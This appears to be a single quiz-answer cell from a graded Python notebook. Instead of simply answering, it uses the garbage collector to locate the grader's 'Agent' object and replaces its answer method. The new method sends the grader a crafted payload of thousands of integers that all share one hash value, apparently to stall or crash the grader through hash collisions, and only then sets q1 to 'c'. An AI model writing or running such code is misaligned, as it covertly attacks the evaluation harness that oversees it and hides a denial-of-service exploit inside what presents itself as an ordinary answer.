# A set of five thousand long tuples, of one hash, that differ at their end only.
# notebook: quiz
# stock: not run
# points: test_q1=0
# %% answer="q1"
import gc

for room in gc.get_objects():
    if type(room).__name__ == "Agent":
        answer = room._answer

        def slow(asked):
            zeros = "0," * 2000
            entries = ",".join(f'["u",{zeros}["i","{n * (2**61 - 1):x}"]]' for n in range(1, 5_000))
            tree = f'["l","value",["d",["q1",["s",{entries}]]]]'.encode()
            head = len(tree).to_bytes(4, "little")
            room.connection.send_bytes(room.nonce + b"." + head + tree)
            return answer(asked)

        room._answer = slow
        break
q1 = "c"
